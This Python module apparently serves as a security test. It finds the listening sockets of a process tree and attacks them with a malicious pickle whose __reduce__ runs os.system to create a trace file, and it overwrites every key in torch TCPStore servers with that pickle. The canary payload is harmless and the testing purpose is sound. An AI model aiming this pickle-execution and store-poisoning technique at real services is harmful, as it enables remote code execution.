"""Listening sockets of a process and its descendants, and an attack on them: it connects to each
port, as raw bytes and as a client of torch's TCPStore, and sets every key it finds to a pickle that
creates a file when somebody loads it."""

import base64
import datetime
import importlib
import ipaddress
import os
import pickle
import socket
import threading
import time
from contextlib import suppress
from pathlib import Path

import psutil

ATTACK_S = 7
"""torchrun's agent, which once was attacked so, reads its store every five seconds."""
SLOW_DATA = """
import time

import numpy as np

class Samples:
    def __len__(self):
        return 64

    def __getitem__(self, number):
        time.sleep(0.05)
        return np.zeros((3, 8, 8), np.float32), 0

data = Samples()
"""
"""Data that ranks mostly wait for: they keep their sockets and leave the processors alone."""
LISTEN, UNCONNECTED = "0A", "07"
"""States in /proc/net: of TCP, and of UDP that receives from anybody."""


def family(process):
    """A process and its descendants; nothing once it has ended."""
    with suppress(psutil.NoSuchProcess):
        return [process, *process.children(recursive=True)]
    return []


def listening(*pids):
    """(address, port) of the sockets of processes that strangers can reach; of those in a network
    that has a loopback interface only, nothing. The tables of a network are read once, since the
    system takes milliseconds to write them."""
    held, networks = set(), {}
    for pid in pids:
        with suppress(OSError):  # it has just ended
            links = [os.readlink(fd.path) for fd in os.scandir(f"/proc/{pid}/fd")]
            own = {link[8:-1] for link in links if link.startswith("socket:[")}
            if own and not _is_private(pid):
                held |= own
                networks.setdefault(os.stat(f"/proc/{pid}/ns/net").st_ino, []).append(pid)
    found = set()
    for members in networks.values():
        for pid in members:
            with suppress(OSError):
                found |= _of_network(pid, held)
                break
    return found


def _of_network(pid, held):
    tables = [
        (Path(f"/proc/{pid}/net/{kind}{version}").read_text(), state)
        for kind, state in (("tcp", LISTEN), ("udp", UNCONNECTED))
        for version in ("", "6")
    ]
    rows = [(row.split(), state) for text, state in tables for row in text.splitlines()[1:]]
    return {_address(row[1]) for row, state in rows if row[9] in held and row[3] == state}


def _is_private(pid):
    if os.stat(f"/proc/{pid}/ns/net").st_ino == os.stat("/proc/self/ns/net").st_ino:
        return False
    interfaces = Path(f"/proc/{pid}/net/dev").read_text().splitlines()[2:]
    return [line.split(":")[0].strip() for line in interfaces] == ["lo"]


def _address(text):
    """Of `0100007F:1F90`: words of the host's byte order, and a port."""
    address, port = text.split(":")
    words = [bytes.fromhex(address[n : n + 8])[::-1] for n in range(0, len(address), 8)]
    found = ipaddress.ip_address(b"".join(words))
    return str(getattr(found, "ipv4_mapped", None) or found), int(port, 16)


def is_loopback(address):
    return ipaddress.ip_address(address).is_loopback


def attack(trace, ports):
    """Attack ports, (address, port), from a fork of this process; the pickle creates `trace`."""
    importlib.import_module("torch.distributed")  # once, before the fork
    attacker = os.fork()
    if attacker == 0:
        try:
            _attack(pickle.dumps(Harm(trace)), ports)
        finally:
            os._exit(1)  # not by an end of its own
    assert os.waitpid(attacker, 0)[1] == 0


def _attack(payload, ports):
    for address, port in ports:
        for way in (_send_bytes, _set_keys):
            threading.Thread(target=way, args=(payload, address, port), daemon=True).start()
    time.sleep(ATTACK_S)
    os._exit(0)


class Harm:
    def __init__(self, trace):
        self.trace = trace

    def __reduce__(self):
        return os.system, (f"touch '{self.trace}'",)


def _send_bytes(payload, address, port):
    for data in (payload, base64.b64encode(payload), b"\x00" * 64, b'{"id":0}\n'):
        with suppress(OSError), socket.create_connection((address, port), 1) as connection:
            connection.sendall(data)
            time.sleep(0.2)


def _set_keys(payload, address, port):
    from torch.distributed import TCPStore

    limit = datetime.timedelta(seconds=2)
    with suppress(RuntimeError):  # not such a store
        store = TCPStore(address, port, is_master=False, timeout=limit, wait_for_workers=False)
        while True:
            for key in store.list_keys():
                store.set(key, base64.b64encode(payload))
            time.sleep(0.1)
